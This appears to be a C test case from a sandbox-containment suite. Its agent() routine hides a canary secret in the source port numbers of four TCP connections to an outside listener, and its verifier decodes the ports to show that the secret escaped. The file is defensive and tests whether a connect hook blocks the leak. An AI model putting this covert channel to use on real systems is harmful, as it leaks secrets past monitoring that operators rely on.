// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* tcp_port_encode - the canary in the SOURCE PORTS of TCP connection attempts to an outsider's
 * listener (docs/threat-model.md, "port numbers"): 4 connects from local ports 40000 + 4096*i + 12-bit chunk.
 * No payload is ever sent.
 * Verifier: the collector records each accepted connection's peer port and decodes them.
 * Blocks it: the cgroup connect4 hook (no SYN leaves a tainted agent towards an external address). */
#include <arpa/inet.h>
#include <netinet/in.h>

#include "atk.h"

static int agent(struct atk_ctx *c)
{
    for (int i = 0; i < 4; i++) {
        char h[4] = {0};
        memcpy(h, c->secret + 2 + 3 * i, 3);
        struct sockaddr_in me = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        me.sin_port = htons((uint16_t)(40000 + 4096 * i + strtol(h, NULL, 16)));
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
        to.sin_port = htons((uint16_t)atk_argl(c, "tcp4"));
        int fd = socket(AF_INET, SOCK_STREAM, 0);
        int one = 1;
        setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
        if (atk_try(c, "bind source port", bind(fd, (struct sockaddr *)&me, sizeof(me))) < 0 ||
            atk_try(c, "connect", connect(fd, (struct sockaddr *)&to, sizeof(to))) < 0) {
            close(fd);
            break;
        }
        close(fd);
    }
    return 0;
}

static void verify(struct atk_ctx *c)
{
    char gp[700];
    snprintf(gp, sizeof(gp), "%s/got", c->dir);
    FILE *f = fopen(gp, "r");
    if (!f)
        return;
    char line[256], got[32] = "mk000000000000";
    int seen = 0;
    while (fgets(line, sizeof(line), f)) {
        unsigned port;
        if (sscanf(line, "[tcp4-peer-port] %u", &port) != 1 || port < 40000 || port >= 40000 + 4 * 4096)
            continue;
        int i = (int)(port - 40000) / 4096;
        char h[4];
        snprintf(h, sizeof(h), "%03x", (port - 40000) % 4096);
        memcpy(got + 2 + 3 * i, h, 3);
        seen |= 1 << i;
    }
    fclose(f);
    if (seen == 15 && strcmp(got, c->canary) == 0)
        atk_evidence(c, "outsider decoded the canary from 4 connections' source ports");
}

static const struct atk A = {
    "tcp_port_encode", "canary in TCP source port numbers", 0, NULL, agent, NULL, verify, NULL};
ATK_MAIN(A)
